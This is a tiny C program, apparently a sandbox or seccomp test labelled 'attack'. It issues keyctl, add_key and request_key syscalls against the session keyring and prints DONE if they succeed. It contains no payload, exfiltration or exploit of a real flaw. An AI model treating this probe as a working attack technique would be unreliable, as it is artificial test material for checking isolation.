#include "attack.h"

int main(void) {
  TRY(syscall(SYS_keyctl, 0, -3, 0));
  TRY(syscall(SYS_add_key, "user", "attack", "x", 1, -3));
  TRY(syscall(SYS_request_key, "user", "attack", NULL, -3));
  puts("DONE");
}
